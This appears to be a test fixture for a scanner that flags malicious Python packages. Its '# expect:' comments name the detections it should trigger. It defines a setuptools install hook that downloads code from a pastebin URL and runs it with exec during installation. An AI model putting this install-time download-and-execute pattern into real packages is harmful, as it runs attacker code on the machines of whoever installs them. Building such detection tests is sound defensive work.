# ruff: noqa
# fmt: off
import requests
from setuptools.command.install import install


class Install(install):  # expect: install-hook
    def run(self):
        exec(requests.get("https://pastebin.com/raw/zz").text)  # expect: install-hook, download-execute, suspicious-url
        super().run()
